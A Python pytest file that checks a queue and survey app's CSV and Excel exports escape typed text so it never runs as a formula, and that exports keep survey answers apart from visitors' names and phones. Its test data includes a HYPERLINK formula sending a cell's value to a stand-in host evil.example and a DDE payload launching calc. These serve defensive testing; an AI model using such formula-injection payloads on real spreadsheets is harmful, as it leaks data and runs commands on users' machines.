"""Exports (issue 30): one escaping function in every CSV and workbook writer, so text a person typed is never
a formula; no export links a survey answer to a name or a phone. docs/security.md names each test."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from queue_app.core import clock

from ..helpers import ROOT, TEST_SITE, built_app, kiosk_headers, make_site, take_ticket

pytestmark = pytest.mark.both_databases

EVIL = '=HYPERLINK("http://evil.example/x?d="&C7,"Lihat detail")'
BOOKING_SITE = TEST_SITE.replace('''target_wait_minutes = 15
''', '''target_wait_minutes = 15

[services.booking]
slot_minutes = 30
per_slot = 4
days_ahead = 7
checkin_early_minutes = 600
checkin_late_minutes = 600
''', 1)
TZ = ZoneInfo("Asia/Jakarta")


def _cells(data: bytes) -> list:  # noqa: ANN401
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb for r in ws.iter_rows() for c in r if c.value is not None]


def _finish_and_answer(client, clerk, token: str, comment: str, **respondent) -> None:  # noqa: ANN001
    for step in ("call-next", "start", "finish"):
        assert client.post(f"/api/counters/L01/{step}", headers=clerk).status_code == 200
    answers = {f"U{i}": 3 for i in range(1, 10)}
    resp = client.post(f"/api/tickets/{token}/survey", json={"answers": answers, "comment": comment,
                                                            **({"respondent": respondent} if respondent else {})})
    assert resp.status_code == 201, resp.text


def test_the_ikm_workbook_writes_a_typed_formula_as_text(app, client, clerk, manager):
    ticket = take_ticket(client).json
    _finish_and_answer(client, clerk, ticket["token"], EVIL, education="@SUM(1+1)*cmd|' /C calc'!A0",
                       occupation="+62 812")
    resp = client.get("/api/stats/ikm.xlsx", headers=manager)
    assert resp.status_code == 200
    cells = _cells(resp.data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell may be a formula"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + EVIL in texts  # the answers sheet and the comments sheet
    assert texts.count("'" + EVIL) == 2
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts and "'+62 812" in texts
    assert EVIL not in texts


def test_every_csv_and_workbook_writer_escapes_with_the_one_function():
    """Every value a module writes into a workbook cell or a CSV row goes through the one escaping function,
    ``queue_app.core.exports.spreadsheet_text`` (directly, or through ``core/workbook.py``'s writers and
    ``exports.csv_chunks``, which call it): a writer that forgot it is how ikm.xlsx ran survey comments as
    formulas. A cell written with ``ws.cell(..., value=X)`` must wrap X in it unless X is a literal text."""
    writers, unescaped = [], []
    for path in sorted((ROOT / "queue_app").rglob("*.py")):
        if "migrations" in path.parts or path.name == "exports.py":
            continue
        rel = path.relative_to(ROOT).as_posix()
        tree = ast.parse(path.read_text(encoding="utf-8"))
        imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
        imported |= {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
        if any(m.split(".")[0] in ("openpyxl", "csv") for m in imported):
            writers.append(rel)
        for node in ast.walk(tree):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            value = next((k.value for k in node.keywords if k.arg == "value"), None)
            if node.func.attr == "cell" and value is not None:
                escaped = (isinstance(value, ast.Call) and getattr(value.func, "id", getattr(value.func, "attr", ""))
                           == "spreadsheet_text") or (isinstance(value, ast.Constant) and isinstance(value.value, str))
                if not escaped:
                    unescaped.append(f"{rel}:{node.lineno}")
            if node.func.attr in ("writerow", "writerows", "append") and any(
                    m.split(".")[0] == "csv" for m in imported) and "spreadsheet_text" not in ast.unparse(node):
                unescaped.append(f"{rel}:{node.lineno}")
    assert "queue_app/survey/workbook.py" in writers and "queue_app/stats/workbooks.py" in writers
    assert "queue_app/core/workbook.py" in writers  # the shared writers, which escape every cell
    assert not unescaped, f"these write a cell or a CSV row without spreadsheet_text: {unescaped}"


def test_no_export_links_a_survey_answer_to_a_name_or_phone(tmp_path, db_url):
    """A booked visit (name and phone given) answers the survey: the IKM workbook names no ticket (the key to
    the booking), and no export holds the name or the phone."""
    day = date(2026, 12, 7)
    clock.travel(datetime.combine(day, datetime.min.time(), TZ).replace(hour=9) - clock.utcnow())
    try:
        with built_app(make_site(tmp_path, BOOKING_SITE), db_url) as app:
            from ..helpers import Staff

            staff = Staff(app)
            clerk = staff.headers("kasir", "clerk", ["L01"])
            manager = staff.headers("kepala", "manager")
            client = app.test_client()
            booked = client.post("/api/bookings", json={"service": "PERIZINAN", "date": day.isoformat(),
                                                        "start": "10:00", "name": "Siti Aminah",
                                                        "phone": "0812-3456-7890"})
            assert booked.status_code == 201, booked.text
            checked = client.post(f"/api/bookings/{booked.json['code']}/check-in", json={"kiosk": "K1"},
                                  headers=kiosk_headers(app))
            assert checked.status_code == 201, checked.text
            clock.travel(datetime.combine(day, datetime.min.time(), TZ).replace(hour=10, minute=5)
                         - clock.utcnow())
            _finish_and_answer(client, clerk, checked.json["token"], "Pelayanan ramah", gender="P", age=34)
            number = checked.json["number"]
            query = f"?from={day.isoformat()}&to={day.isoformat()}"
            ikm = client.get(f"/api/stats/ikm.xlsx{query}", headers=manager)
            assert ikm.status_code == 200
            texts = [str(c.value) for c in _cells(ikm.data)]
            assert "Pelayanan ramah" in texts  # the answer is there...
            assert not [t for t in texts if number in t or number.replace("-", "") in t]  # ...but not its ticket
            exports = {
                "ikm.xlsx": " ".join(texts),
                "export.xlsx": " ".join(str(c.value) for c in _cells(
                    client.get(f"/api/stats/export.xlsx{query}", headers=manager).data)),
                "export.csv": client.get(f"/api/stats/export.csv{query}", headers=manager).get_data(True),
                "bookings": client.get(f"/api/stats/bookings{query}", headers=manager).get_data(True),
            }
            for name, text in exports.items():
                for personal in ("Siti", "Aminah", "81234567890", "0812", "3456"):
                    assert personal not in text, f"{name} holds {personal!r}"
            # the ticket export has the ticket, but nothing of the survey
            rows = list(csv.DictReader(io.StringIO(exports["export.csv"])))
            assert [r["number"] for r in rows] == [number]
            assert not {"comment", "U1", "answers"} & set(rows[0])
    finally:
        clock.reset()
